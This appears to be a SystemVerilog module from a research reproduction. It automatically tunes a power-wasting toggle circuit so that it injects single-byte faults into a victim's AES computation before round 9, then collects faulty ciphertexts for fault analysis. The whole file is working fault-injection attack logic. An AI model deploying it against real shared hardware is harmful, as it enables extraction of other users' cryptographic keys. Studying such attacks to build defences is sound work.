// calib_ctrl: automated calibration of the power-waster toggle signal.
//
// Finds a toggle period, duty cycle and activation delay that put a single
// byte fault into the victim's AES state right before round 9, using only
// the ciphertexts the victim returns through its public interface:
//   1. cal_start loads the initial period and duty cycle with zero delay and
//      waits, disarmed, for the correct ciphertext of a plaintext (ref_valid).
//   2. It then arms the toggle generator. For every ciphertext of the same
//      plaintext encrypted while armed (res_valid) it classifies the fault
//      and adapts the parameters:
//        no fault   -> period + P_STEP (lower toggle frequency) and duty + 1
//        too early  -> delay + D_STEP
//        too late   -> delay - D_STEP (not below 0)
//        usable     -> calibrated: parameters frozen (CS_DONE)
//      Every outcome is reported on rep_* for one cycle.
//   3. After INJ_MAX unsuccessful attempts it disarms (CS_GIVE_UP), and the
//      host may restart with another plaintext. In CS_DONE it stays armed and
//      keeps reporting outcomes so that usable faulty ciphertexts can be
//      collected; there a new ref_valid replaces the correct ciphertext, so
//      faults can be collected for fresh plaintexts with the calibrated
//      settings. cal_stop disarms from any state.
// The steps of the algorithm are the document's. The step sizes, the duty
// cycle in 1/2^DW units, applying the no-fault step to both frequency and
// duty cycle at once, and INJ_MAX are this design's choices.
// high = (period * duty) >> DW is the number of high cycles per period.
module calib_ctrl
  import aes_pkg::*;
  import attack_pkg::*;
#(
  parameter int unsigned CW      = 16,    // period / delay counter width
  parameter int unsigned DW      = 4,     // duty cycle resolution in bits
  parameter int unsigned P_STEP  = 1,     // period increase on no fault
  parameter int unsigned D_STEP  = 1,     // delay change on early/late fault
  parameter int unsigned INJ_MAX = 1000   // attempts before giving up
) (
  input  logic          clk,
  input  logic          rst_n,
  input  logic          cal_start,
  input  logic          cal_stop,
  input  logic [CW-1:0] init_period,
  input  logic [DW-1:0] init_duty,
  input  logic          ref_valid,
  input  block_t        ref_ct,
  input  logic          res_valid,
  input  block_t        res_ct,
  output cal_state_e    state,
  output logic          arm,
  output logic [CW-1:0] period,
  output logic [DW-1:0] duty,
  output logic [CW-1:0] high,
  output logic [CW-1:0] delay,
  output logic          rep_valid,
  output fault_class_e  rep_cls,
  output logic [15:0]   rep_mask,
  output logic [1:0]    rep_col,
  output logic [$clog2(INJ_MAX+1)-1:0] attempts
);

  localparam int unsigned AW = $clog2(INJ_MAX + 1);

  block_t       ref_q;
  logic [15:0]  fc_mask;
  logic [4:0]   fc_nbytes;
  fault_class_e fc_cls;
  logic [1:0]   fc_col;

  fault_classifier u_cls (
    .ref_ct (ref_q),
    .ct     (res_ct),
    .mask   (fc_mask),
    .nbytes (fc_nbytes),
    .cls    (fc_cls),
    .col    (fc_col)
  );

  logic [CW+DW-1:0] prod;
  assign prod  = period * duty;
  assign high  = prod[CW+DW-1:DW];
  assign arm   = (state == CS_ARMED) || (state == CS_DONE);

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state     <= CS_IDLE;
      ref_q     <= '0;
      period    <= '0;
      duty      <= '0;
      delay     <= '0;
      attempts  <= '0;
      rep_valid <= 1'b0;
      rep_cls   <= FC_NONE;
      rep_mask  <= '0;
      rep_col   <= '0;
    end else begin
      rep_valid <= 1'b0;
      if (cal_stop) begin
        state <= CS_IDLE;
      end else if (cal_start) begin
        state    <= CS_REF;
        period   <= init_period;
        duty     <= init_duty;
        delay    <= '0;
        attempts <= '0;
      end else begin
        unique case (state)
          CS_REF: if (ref_valid) begin
            ref_q <= ref_ct;
            state <= CS_ARMED;
          end
          CS_ARMED, CS_DONE: if (ref_valid && state == CS_DONE) begin
            // collection: a new plaintext's correct ciphertext, same settings
            ref_q <= ref_ct;
          end else if (res_valid) begin
            rep_valid <= 1'b1;
            rep_cls   <= fc_cls;
            rep_mask  <= fc_mask;
            rep_col   <= fc_col;
            if (state == CS_ARMED) begin
              attempts <= attempts + 1'b1;
              unique case (fc_cls)
                FC_NONE: begin
                  period <= (period > {CW{1'b1}} - CW'(P_STEP)) ? {CW{1'b1}} : period + CW'(P_STEP);
                  duty   <= (duty == {DW{1'b1}}) ? duty : duty + 1'b1;
                end
                FC_EARLY: delay <= (delay > {CW{1'b1}} - CW'(D_STEP)) ? {CW{1'b1}} : delay + CW'(D_STEP);
                FC_LATE:  delay <= (delay < CW'(D_STEP)) ? '0 : delay - CW'(D_STEP);
                FC_USABLE: ;
              endcase
              if (fc_cls == FC_USABLE)                state <= CS_DONE;
              else if (attempts + 1'b1 == AW'(INJ_MAX)) state <= CS_GIVE_UP;
            end
          end
          default: ;
        endcase
      end
    end
  end

  // Outcomes are only reported for ciphertexts taken while armed.
  assert property (@(posedge clk) disable iff (!rst_n) rep_valid |-> $past(arm));

endmodule
